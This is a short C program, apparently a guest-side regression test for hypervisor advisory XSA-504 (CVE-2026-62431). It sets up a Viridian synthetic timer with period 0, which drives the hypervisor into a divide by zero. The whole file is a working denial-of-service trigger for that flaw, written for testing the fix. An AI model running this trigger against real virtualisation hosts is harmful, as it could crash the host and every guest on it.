// SPDX-License-Identifier: Apache-2.0
// XSA-504, CVE-2026-62431. A synthetic timer that repeats with a period of 0: once its first message is
// delivered, the hypervisor divides by the period to find out how many it has missed.

#include "guest.h"

enum { ENABLE = 1, PERIODIC = 2, SINT1 = 1 << 16, VECTOR = 0x40 };

static char __attribute__((aligned(4096))) messages[4096];

int main(void)
{
    uint64_t value;
    viridian_on();
    if (!try_read_msr(HV_STIMER0_CONFIG, &value)) lacking("synthetic timers");
    apic_on();                                  // timers are looked at only with it
    write_msr(HV_SIMP, (uintptr_t)messages | ENABLE);
    write_msr(HV_SINT0 + 1, VECTOR);
    write_msr(HV_SCONTROL, ENABLE);
    print("a timer with period 0\n");
    write_msr(HV_STIMER0_CONFIG, SINT1 | PERIODIC | ENABLE);
    wait_ms(50);
    print(read_msr(HV_STIMER0_CONFIG) & ENABLE ? "it is on\n" : "it was not started\n");
    print("done\n");
    return 0;
}
